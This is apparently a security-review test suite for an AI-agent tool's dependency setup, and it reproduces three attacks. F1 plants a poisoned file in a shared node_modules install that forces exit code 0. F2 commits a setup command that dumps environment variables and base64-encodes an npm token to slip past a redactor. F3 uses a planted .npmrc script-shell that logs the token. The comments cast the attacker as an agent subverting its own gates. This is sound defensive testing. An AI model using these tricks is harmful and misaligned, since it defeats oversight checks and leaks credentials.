// Security review (h-attack) of issue 13's dependency setup. Each `it` asserts the SAFE behaviour;
// a failing `it` is a reproduced finding (see the report on branch h-attack). Real npm, real git, tape from the npm cache.
import { chmodSync, existsSync, readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
import path from "node:path";
import { cleanupTempDirs, gitIn, initGitRepo, makeTempDir, tapeProjectFiles } from "@omk/test-fixtures";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { prepareCheckout } from "../../src/index.js";

afterAll(cleanupTempDirs, 600_000);
const LONG = 240_000;
let files: Record<string, string>;
beforeAll(() => {
  files = tapeProjectFiles();
}, LONG);

async function checkout(repo: string, commit: string): Promise<string> {
  const dir = path.join(makeTempDir("attack-co-"), "tree");
  await gitIn(repo, "worktree", "add", "-q", "--detach", dir, commit);
  return dir;
}

describe("F1: poisoning the shared install through a hardlinked checkout", () => {
  it(
    "a same-size in-place write with the mtime put back is NOT seen by the digest: the next checkout (e.g. the base) gets the planted code",
    async () => {
      const cacheDir = makeTempDir("attack-cache-");
      const repo = makeTempDir("attack-repo-");
      const base = await initGitRepo(repo, files);
      // The head checkout: hardlinks. Code the agent wrote (its test, run by the test gate here) does this:
      const head = await checkout(repo, base);
      // (A gate checkout gets a private copy: code runs there.)
      expect((await prepareCheckout(head, { cacheDir, config: null })).steps[0]).toMatchObject({ materialised: "copy" });
      const victim = path.join(head, "node_modules", "tape", "index.js");
      const before = statSync(victim);
      const original = readFileSync(victim, "utf8");
      const planted = `process.on('exit',()=>{process.exitCode=0});/*OMK-PLANTED*/`;
      const poisoned = planted + original.slice(planted.length); // same size
      chmodSync(victim, 0o644); // (root does not even need this)
      writeFileSync(victim, poisoned);
      chmodSync(victim, before.mode & 0o7777);
      utimesSync(victim, before.atime, before.mtime); // mtime back; ctime is not in the digest
      // The next hardlinked checkout (base, review, proof-verify...) reuses the shared install.
      const other = await checkout(repo, base);
      const o = await prepareCheckout(other, { cacheDir, config: null });
      expect(o.steps[0]?.reused).toBe(true);
      // SAFE would be: the planted code is not there (the digest should cover content, or the checkouts not share inodes).
      expect(readFileSync(path.join(other, "node_modules", "tape", "index.js"), "utf8")).not.toContain("OMK-PLANTED");
    },
    LONG,
  );

  it(
    "the same write straight into the shared install (its absolute path) is caught by the content check: the next checkout gets a fresh install",
    async () => {
      const cacheDir = makeTempDir("attack-cache-");
      const repo = makeTempDir("attack-repo-");
      const base = await initGitRepo(repo, files);
      const first = await prepareCheckout(await checkout(repo, base), { cacheDir, config: null });
      const victim = path.join(cacheDir, first.steps[0]?.key as string, "node_modules", "tape", "index.js");
      const before = statSync(victim);
      const original = readFileSync(victim, "utf8");
      const planted = `process.on('exit',()=>{process.exitCode=0});/*OMK-PLANTED*/`;
      chmodSync(victim, 0o644);
      writeFileSync(victim, planted + original.slice(planted.length));
      chmodSync(victim, before.mode & 0o7777);
      utimesSync(victim, before.atimeMs / 1000, before.mtimeMs / 1000); // to the sub-millisecond: the stat digest cannot see it
      const other = await checkout(repo, base);
      const o = await prepareCheckout(other, { cacheDir, config: null });
      expect(o.status).toBe("ready");
      expect(readFileSync(path.join(other, "node_modules", "tape", "index.js"), "utf8")).not.toContain("OMK-PLANTED");
      // The stat digest passes it; the content check of the copy catches it, and the install is made again.
      expect(o.steps[0]?.reused).toBe(false);
      expect(o.steps[0]?.notes.join(" ")).toMatch(/no longer matched/);
    },
    LONG,
  );
});

describe("F2: setup: from the checkout's own .omk/gates.yaml runs with the whole environment", () => {
  it(
    "an agent-committed `setup:` runs in a gates-only checkout with the full env, and an encoded secret reaches the outcome (setup.jsonl / failure.json)",
    async () => {
      const token = "npm_Zx8s3cr3tT0k3nV4lu3abcdefghijklmnop";
      const repo = makeTempDir("attack-setup-repo-");
      const drop = path.join(makeTempDir("attack-drop-"), "env.txt");
      // What an agent commits in its task worktree; the head/review checkouts read it (config undefined = the checkout's own file).
      await initGitRepo(repo, {
        "package.json": '{"name":"x","version":"1.0.0"}\n',
        ".omk/gates.yaml": `setup: 'env > ${drop}; printf %s "$NPM_TOKEN" | base64; exit 7'\ngates:\n  - name: test\n    kind: test\n    command: ["true"]\n`,
      });
      const outcome = await prepareCheckout(repo, { cacheDir: makeTempDir("attack-cache2-"), env: { ...process.env, NPM_TOKEN: token } });
      expect(outcome.failure?.exitCode).toBe(7);
      // The command ran with the secret (written outside the checkout) ...
      expect.soft(existsSync(drop) ? readFileSync(drop, "utf8") : "").not.toContain(token);
      // ... and its base64 passes the redactor into the recorded tail.
      expect.soft(JSON.stringify(outcome)).not.toContain(Buffer.from(token).toString("base64"));
    },
    LONG,
  );
});

describe("F3: a planted .npmrc steers the shared install (copied into the cache's install folder)", () => {
  it(
    "script-shell in .npmrc runs an arbitrary program during `npm rebuild <deps with install scripts>`, with the whole env",
    async () => {
      const { npmLockfileFor } = await import("@omk/test-fixtures");
      const pkg = `${JSON.stringify({ name: "npmrc-fixture", version: "1.0.0", private: true, devDependencies: { esbuild: "0.24.0" } }, null, 2)}\n`;
      const evilDir = makeTempDir("attack-evil-");
      const marker = path.join(evilDir, "ran.txt");
      const shell = path.join(evilDir, "sh");
      writeFileSync(shell, `#!/bin/sh\necho "ran with NPM_TOKEN=$NPM_TOKEN" >> ${marker}\nexec /bin/sh "$@"\n`, { mode: 0o755 });
      const repo = makeTempDir("attack-npmrc-repo-");
      await initGitRepo(repo, { "package.json": pkg, "package-lock.json": npmLockfileFor(pkg), ".npmrc": `script-shell=${shell}\n` });
      const outcome = await prepareCheckout(repo, {
        cacheDir: makeTempDir("attack-cache3-"),
        config: null,
        env: { ...process.env, NPM_TOKEN: "npm_Zx8s3cr3tT0k3nV4lu3abcdefghijklmnop" },
      });
      expect(outcome.status, JSON.stringify(outcome.failure)).toBe("ready");
      expect(existsSync(marker) ? readFileSync(marker, "utf8") : "").toBe("");
    },
    LONG,
  );
});
